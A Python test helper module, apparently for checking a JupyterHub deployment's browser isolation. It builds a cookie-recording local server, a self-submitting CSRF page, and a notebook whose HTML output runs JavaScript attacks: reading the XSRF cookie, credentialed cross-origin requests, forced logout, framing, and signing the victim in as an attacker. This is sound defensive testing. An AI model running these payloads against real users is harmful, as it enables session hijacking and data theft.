"""Pages that attack, and a server that remembers what browsers sent to it."""

from __future__ import annotations

import html
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


@dataclass
class Elsewhere:
    """Another program that listens on 127.0.0.1, as any site or any local program could."""

    port: int
    pages: dict[str, str] = field(default_factory=dict)
    cookies: dict[str, str] = field(default_factory=dict)
    """What came with each request, by host and path; absent where nothing came."""
    seen: set[str] = field(default_factory=set)


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            key = self.headers["Host"].split(":")[0] + self.path
            here.seen.add(key)
            if "Cookie" in self.headers:
                here.cookies[key] = self.headers["Cookie"]
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            if self.path == "/give":
                self.send_header("Set-Cookie", "given=here; Path=/")
            self.end_headers()
            self.wfile.write(here.pages.get(self.path, "<p>somewhere else").encode())

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    here = Elsewhere(int(server.server_address[1]))
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield here
    server.shutdown()
    thread.join()
    server.server_close()


def posting_page(url: str, fields: dict[str, str], kind: str) -> str:
    """Return a page that posts a form by itself."""
    inputs = "".join(
        f'<input name="{html.escape(name)}" value="{html.escape(value)}">'
        for name, value in fields.items()
    )
    form = f'<form method="post" action="{url}" enctype="{kind}">{inputs}</form>'
    return f"<!doctype html>{form}<script>document.forms[0].submit()</script>"


_TRIES = """
const tried = {};
const attempt = async (name, act) => {
  try { tried[name] = String(await act()); } catch (error) { tried[name] = "blocked"; }
};
const socket = (url) => new Promise((done) => {
  const it = new WebSocket(url);
  it.onopen = () => done("open");
  it.onerror = () => done("refused");
});
const withCookies = {credentials: "include"};
(async () => {
  await attempt("own files", async () => (await fetch(OWN + "/api/contents", {
    headers: {"X-XSRFToken": document.cookie.match(/_xsrf=([^;]+)/)[1]}})).status);
  await attempt("own socket", () => socket(OWN.replace("http", "ws") + "/api/events/subscribe"));
  await attempt("hub: who", async () => (await fetch(HUB + "/hub/api/user", withCookies)).status);
  await attempt("hub: people", async () => (await fetch(HUB + "/hub/people", withCookies)).text());
  await attempt("hub: in this origin", async () => (await fetch("/hub/login")).text());
  await attempt("alice: files", async () =>
    (await fetch(ALICE + "/api/contents", withCookies)).status);
  await attempt("alice: socket", () =>
    socket(ALICE.replace("http", "ws") + "/api/events/subscribe"));
  const add = {...withCookies, method: "POST", mode: "no-cors",
               body: JSON.stringify({name: "planted"})};
  await attempt("hub: add", async () =>
    (await fetch(HUB + "/hub/api/tinyberth/people", add)).status || "not told");
  await attempt("hub: sign out", () => new Promise((done) => {
    const image = new Image();
    image.onload = image.onerror = () => done("not told");
    image.src = HUB + "/hub/logout";
  }));
  await attempt("hub: framed", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => { try { done(frame.contentDocument.body.innerText); }
                           catch (error) { done("not told"); } };
    frame.src = HUB + "/hub/home";
    document.body.append(frame);
  }));
  document.cookie = "_xsrf=" + TOKEN + "; domain=hub.localhost; path=/hub/login";
  document.cookie = "jupyterhub-session-id=; domain=hub.localhost; path=/hub/login";
  await attempt("hub: sign in as the attacker", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "hidden";
    document.body.append(frame);
    const form = document.createElement("form");
    form.method = "post"; form.action = HUB + "/hub/login"; form.target = "hidden";
    for (const [name, value] of [["_xsrf", TOKEN], ["username", WHO], ["password", PASSWORD]]) {
      const input = document.createElement("input");
      [input.name, input.value] = [name, value];
      form.append(input);
    }
    document.body.append(form);
    frame.onload = () => done("not told");
    form.submit();
  }));
  document.documentElement.dataset.tried = JSON.stringify(tried);
})();
"""


def attacking_notebook(**known: str) -> dict[str, object]:
    """Return a notebook whose output, once trusted, runs every attack in its reader's browser."""
    constants = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in known.items())
    script = f"<script>(() => {{\n{constants}{_TRIES}}})();</script>"
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": script}}
    cell = {"cell_type": "code", "id": "one", "execution_count": 1, "metadata": {}, "source": "1",
            "outputs": [output]}  # fmt: skip
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return {"cells": [cell], "metadata": {"kernelspec": kernel}, "nbformat": 4,
            "nbformat_minor": 5}  # fmt: skip
